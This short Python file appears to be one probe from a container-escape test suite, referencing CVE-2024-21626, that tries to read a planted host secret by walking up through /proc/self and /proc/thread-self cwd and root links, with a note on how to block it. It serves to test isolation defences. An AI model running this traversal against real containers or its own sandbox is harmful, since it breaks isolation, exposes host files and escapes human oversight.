# title: Go up from its own working folder in /proc
# tries: Opens a planted file through /proc/self/cwd, /proc/self/root and the same of its thread. A working folder that lies outside of the new root leads out.
# impact: HostLeak
# reference: CVE-2024-21626
# proof: secret
# host: run
# advice: Change into a folder of the new root before code runs, and mount no /proc.


def attempt(host):
    failure = None
    for process in ("/proc/self", "/proc/thread-self"):
        for way in ("cwd" + "/.." * 40, "root", "root" + "/.." * 40):
            try:
                with open(f"{process}/{way}{host['secret_file']}") as file:
                    return file.read()
            except OSError as error:
                failure = failure or error
    raise failure
